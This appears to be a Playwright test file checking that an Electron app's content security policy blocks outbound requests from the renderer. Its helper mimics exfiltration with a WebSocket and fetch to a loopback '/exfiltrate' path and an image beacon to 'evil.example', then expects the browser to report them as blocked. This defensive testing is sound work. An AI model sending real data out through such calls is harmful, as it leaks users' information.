import { expect, test, type Page } from '@playwright/test'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { contentSecurityPolicy } from '../../electron/main/content-security-policy.ts'
import { serveStatic } from '../../tools/cluster/static-server.ts'

/** Records the page's CSP violations (the browser's own report of what it blocked). */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    // Browser globals, typed here because the Node config has no DOM types.
    const browser = globalThis as unknown as {
      cspViolations: string[]
      document: {
        addEventListener(
          type: 'securitypolicyviolation',
          listener: (event: { effectiveDirective: string; blockedURI: string }) => void,
        ): void
      }
    }
    const seen: string[] = []
    browser.cspViolations = seen
    browser.document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    )
  })
  // zod probes `new Function('')` once (in a try/catch) and, refused, validates without generated
  // code: that report is the policy working, not the app failing. (`z.config({ jitless: true })`
  // in the renderer would skip the probe.)
  const zodProbe = 'script-src eval'
  return async () =>
    (await page.evaluate(() => (globalThis as unknown as { cspViolations: string[] }).cspViolations)).filter(
      (violation) => violation !== zodProbe,
    )
}

/** What script in the page would try in order to send data out. */
async function tryToReachOut(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const socket = new WebSocket('ws://127.0.0.1:9/exfiltrate')
    socket.onerror = () => undefined
    await fetch('http://127.0.0.1:9/exfiltrate').catch(() => undefined)
    const { Image } = globalThis as unknown as { Image: new () => { src: string } }
    new Image().src = 'https://evil.example/pixel.png'
    await new Promise((resolve) => setTimeout(resolve, 300))
  })
}

test('the built renderer loads in Chromium and shows the app name', async ({ page }) => {
  const server = await serveStatic('out/renderer')
  try {
    const errors: string[] = []
    page.on('pageerror', (error) => errors.push(error.message))
    const violations = await recordViolations(page)
    const response = await page.goto(server.url)
    expect(response?.headers()['content-security-policy']).toBe(contentSecurityPolicy('harness'))
    await expect(page.getByRole('heading', { name: 'Allot', level: 1 })).toBeVisible()
    expect(errors).toEqual([])
    // The harness policy lets the app run as it is: nothing it does is blocked.
    expect(await violations()).toEqual([])
    // Script in the page may open a loopback WebSocket (the store's API) but nothing else.
    await tryToReachOut(page)
    expect((await violations()).sort()).toEqual([
      'connect-src http://127.0.0.1:9/exfiltrate',
      'img-src https://evil.example/pixel.png',
    ])
  } finally {
    await server.close()
  }
})

test('the built index.html as Electron loads it: the app runs, and connects nowhere', async ({ page }) => {
  // The built page unchanged (its meta policy, no header), from one origin, as the Electron
  // window gets it from file://.
  const out = join(import.meta.dirname, '../../out/renderer')
  await page.route('http://allot.test/**', (route) => {
    const path = new URL(route.request().url()).pathname
    const file = join(out, path === '/' ? 'index.html' : path)
    return existsSync(file) ? route.fulfill({ path: file }) : route.fulfill({ status: 404 })
  })
  const errors: string[] = []
  page.on('pageerror', (error) => errors.push(error.message))
  const violations = await recordViolations(page)
  await page.goto('http://allot.test/')
  await expect(page.getByRole('heading', { name: 'Allot', level: 1 })).toBeVisible()
  expect(errors).toEqual([])
  expect(await violations()).toEqual([])
  await tryToReachOut(page)
  expect((await violations()).sort()).toEqual([
    'connect-src http://127.0.0.1:9/exfiltrate',
    'connect-src ws://127.0.0.1:9/exfiltrate',
    'img-src https://evil.example/pixel.png',
  ])
})
